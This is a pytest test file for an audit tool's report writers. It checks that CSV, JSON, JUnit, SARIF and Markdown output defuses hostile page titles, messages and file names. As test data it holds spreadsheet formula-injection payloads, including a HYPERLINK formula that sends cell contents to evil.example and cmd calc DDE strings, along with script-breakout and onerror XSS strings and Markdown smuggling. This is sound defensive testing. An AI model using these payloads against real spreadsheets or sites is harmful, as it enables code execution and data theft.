"""What a crawled page or a file name says cannot act in the files the reports write: CSV cells
are not formulas, JSON is safe to inline in HTML, JUnit stays parsable XML, and Markdown shows
file names as text (no links, images, emphasis, HTML or mentions)."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from integration_helpers import massaudit

from massaudit.cli import main
from massaudit.reports.ci import CheckedFinding, CheckedPage, CheckReport, render
from massaudit.reports.document_list import DocumentItem, documents_csv
from massaudit.reports.site import render_scorecard
from massaudit.reports.views import build_scorecard
from massaudit.rules.catalogue import load_catalogue
from massaudit.rules.judge import judge
from massaudit.rules.model import Finding, PageArtifacts
from massaudit.store.db import RunVersions, Store

FORMULA_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SCRIPT = "</script><script>alert(1)</script> & more"
HOSTILE_FILE = "x\x01[a](http://e)@team*b*.html"  # a page key or URL may hold a "/"
HOSTILE_FILE_NAME = "x\x01![i](e.png)[a](e.html)@team*b*.html"  # a file name cannot
CONFIG = {
    "agencies": [{"id": "parks", "name": "Parks"}],
    "sites": [
        {"id": "parks-site", "agency": "parks", "name": "Parks", "start_urls": ["http://x/"]}
    ],
}


@pytest.fixture(scope="module")
def catalogue():
    return load_catalogue()


def hostile_page(n: int, title: str) -> PageArtifacts:
    node = {
        "target": [f"=cmd|' /C calc'!A{n}"],
        "html": f'<img src="{n}.png" alt="">{SCRIPT}',
        "impact": "critical",
        "failureSummary": "@team fix <b>this</b>",
    }
    url = f"http://x/page-{n}/"
    axe = {"violations": [{"id": "image-alt", "impact": "critical", "nodes": [node]}]}
    return PageArtifacts(url, url, 200, title, axe)


@pytest.fixture()
def hostile_run(tmp_path, catalogue):
    db = tmp_path / "audit.sqlite"
    store = Store(str(db))
    run_id = store.begin_run(CONFIG, {}, RunVersions("0.1.0", "4.14.1", "test", "2"))
    titles = [*FORMULA_TITLES, SCRIPT]
    for n, title in enumerate(titles):
        arts = hostile_page(n, title)
        store.save_page(
            run_id,
            site_id="parks-site",
            agency_id="parks",
            depth=0,
            artifacts=arts,
            judgement=judge(arts, catalogue),
        )
    store.finish_run(run_id, "complete", {})
    return store, store.get_run(run_id), db


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_the_scorecard_writes_has_no_formula_cells(hostile_run, catalogue, tmp_path):
    store, run, _db = hostile_run
    out = tmp_path / "report"
    render_scorecard(build_scorecard(store, run, catalogue), catalogue, out)
    written = sorted((out / "export").rglob("*.csv"))
    assert len(written) >= 6
    titles = set()
    for path in written:
        for cell in cells(path.read_text(encoding="utf-8")):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, cell)
        rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
        titles |= {row["page_title"] for row in rows if "page_title" in row}
    # Shown as text, nothing lost: the quote only keeps a spreadsheet from running the cell
    # (and a carriage return inside a cell is a quoted newline, not the end of the row).
    assert titles >= {"'" + title.replace("\r", "\n") for title in FORMULA_TITLES}


def test_documents_csv_has_no_formula_cells():
    item = DocumentItem(
        site_id="s",
        url="http://x/=1+1.pdf",
        kind="pdf",
        size=-1,
        checked=False,
        note="too large",
        guidance="@team",
        linked_from=["-http://x/"],
    )
    row = cells(documents_csv([item]))[10:]
    assert "'@team" in row and "'-http://x/" in row
    assert not any(cell.startswith(("=", "+", "@")) for cell in row)
    assert "-1" in row, "numbers stay numbers"


def test_json_exports_write_angle_brackets_and_ampersands_escaped(
    hostile_run, catalogue, tmp_path, capsys
):
    store, run, db = hostile_run
    out = tmp_path / "report"
    render_scorecard(build_scorecard(store, run, catalogue), catalogue, out)
    written = sorted((out / "export").rglob("*.json"))
    assert written
    for path in written:
        text = path.read_text(encoding="utf-8")
        assert not set("<>&") & set(text), path.name
        json.loads(text)
    assert main(["export", "--db", str(db)]) == 0
    printed = capsys.readouterr().out
    assert "<" not in printed and "\\u003c/script\\u003e" in printed
    titles = {page["title"] for page in json.loads(printed)["pages"]}
    assert SCRIPT in titles, "the same data comes back when parsed"


def hostile_report() -> CheckReport:
    finding = Finding(
        rule_id="image-alt",
        category="images",
        outcome="fail",
        impact="critical",
        wcag="1.1.1",
        selector="img[alt='\x02x']",
        html='<img src="\x1b[31m.png">',
        message="Fix \x0b it: ![i](http://e/i.png) <img src=x onerror=alert(1)> @org/team",
    )
    page = CheckedPage(
        key=HOSTILE_FILE,
        url=f"http://127.0.0.1/{HOSTILE_FILE}",
        kind="file",
        source=HOSTILE_FILE,
        title="\x07title",
        findings=[CheckedFinding(finding, "f" * 16, "new", blocking=True, line=3)],
        rule_outcomes={"image-alt": "fail"},
    )
    broken = CheckedPage(
        key="y\x1f<b>**bold**</b>.html", url="http://127.0.0.1/y", kind="file", error="HTTP 404"
    )
    return CheckReport(pages=[page, broken], rules={}, exit_code=1)


def test_junit_is_parsable_whatever_the_file_names_and_messages_hold():
    xml = render(hostile_report(), "junit")
    root = ET.fromstring(xml)  # raised ParseError: "not well-formed (invalid token)"
    names = [suite.get("name") for suite in root.iter("testsuite")]
    assert names[0] == "x[a](http://e)@team*b*.html"
    assert not any(ch in xml for ch in "\x01\x02\x07\x0b\x1b\x1f")


def test_markdown_shows_file_names_and_messages_as_text():
    markdown = render(hostile_report(), "markdown")
    # No link or image can open, no emphasis start: outside code spans (literal text) every
    # [ and * is backslash-escaped.
    assert not re.search(r"(?<!\\)[\[*]", re.sub(r"`[^`]*`", "", markdown))
    assert "@team" not in markdown and "@org" not in markdown
    assert "<img" not in markdown and "<b>" not in markdown
    assert "\x01" not in markdown
    assert "x\\[a\\](http\\://e)@\u200bteam\\*b\\*.html" in markdown


def test_json_and_sarif_reports_escape_angle_brackets():
    for fmt in ("json", "sarif"):
        text = render(hostile_report(), fmt)
        assert "<" not in text and ">" not in text, fmt
        json.loads(text)


@pytest.mark.browser
def test_check_command_with_a_hostile_file_name(tmp_path):
    page = tmp_path / HOSTILE_FILE_NAME
    page.write_text(
        '<!doctype html><html lang="en"><head><title>t</title></head><body><main>'
        '<h1>T</h1><img src="a.png"></main></body></html>'
    )
    junit, markdown = tmp_path / "out.xml", tmp_path / "out.md"
    done = massaudit(
        "check",
        str(page),
        "--report",
        f"junit:{junit}",
        "--report",
        f"markdown:{markdown}",
        timeout=300,
    )
    assert done.returncode == 1, done.stderr
    suites = [s.get("name") for s in ET.parse(junit).getroot().iter("testsuite")]
    assert suites == ["x![i](e.png)[a](e.html)@team*b*.html"]
    text = Path(markdown).read_text(encoding="utf-8")
    text = re.sub(r"`[^`]*`", "", text.replace("[image-alt](https://", ""))
    assert not re.search(r"(?<!\\)[\[*]", text)
    assert "@team" not in text and "\x01" not in text
